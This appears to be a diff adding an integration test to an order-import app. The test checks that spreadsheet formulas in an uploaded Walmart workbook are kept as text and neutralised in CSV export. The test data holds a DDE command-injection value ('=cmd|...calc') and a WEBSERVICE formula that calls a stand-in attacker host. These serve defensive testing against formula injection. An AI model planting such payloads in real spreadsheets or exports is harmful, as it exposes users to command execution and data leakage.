@@ -3,6 +3,7 @@ import { FormData, request } from 'undici';
 import type { ApiResponse } from '../support/api.js';
 import { startApp, type TestApp } from '../support/app.js';
 import { CART } from '../support/cart.js';
+import { sheetXml, workbook } from '../support/workbook.js';
 
 const AMAZON =
   'Website,Order ID,Order Date,Currency,Unit Price,Total Owed,Shipment Item Subtotal,Shipment Item Subtotal Tax,ASIN,Quantity,Order Status,Shipment Status,Ship Date,Product Name';
@@ -73,6 +74,27 @@ describe('files of other retailers and lists, over HTTP', () => {
     const right = await form({ 'list.json': JSON.stringify(LIST) }, '?format=mealie&dryRun=true');
     expect(right.body).toMatchObject({ status: 'completed', dryRun: true, outcome: { format: 'mealie' } });
     expect((await form({ 'list.json': '{}' }, '?format=none')).status).toBe(400);
+  });
+
+  it('takes a workbook by what it holds, keeps its formulas as texts, and hands them out guarded', async () => {
+    const name = "=cmd|'/c calc'!A1";
+    const bytes = workbook({
+      Orders: sheetXml([
+        ['Order Number', 'Order Date', 'Subtotal', 'Order Total'],
+        ['200013100000042', 'Mar 02, 2025', 3.98, { xml: '<f>WEBSERVICE("https://evil.example")</f><v>3.98</v>' }],
+      ]),
+      Items: sheetXml([
+        ['Order Number', 'Order Date', 'Product Name', 'Qty', 'Price', 'Status'],
+        ['200013100000042', 'Mar 02, 2025', name, 1, 3.98, 'Delivered'],
+      ]),
+    });
+    const { body } = await form({ 'orders.csv': bytes });
+    expect(body.outcome).toMatchObject({ format: 'walmart-xlsx', orders: { new: 1 }, lines: 1, skipped: [] });
+    const { data } = (await test.api.get('/v1/orders?retailer=walmart')).body;
+    expect(data).toMatchObject([{ totalCents: 398, reconciled: 'both' }]);
+    const answer = await request(`${test.url}/v1/history/export`, { headers: { accept: 'text/csv' } });
+    const text = await answer.body.text();
+    expect([text.includes(`'${name}`), /(^|,)"?=/m.test(text)]).toEqual([true, false]);
   });
 
   it('takes a ZIP of more than 16 MB, and none of more than 64 MB', async () => {
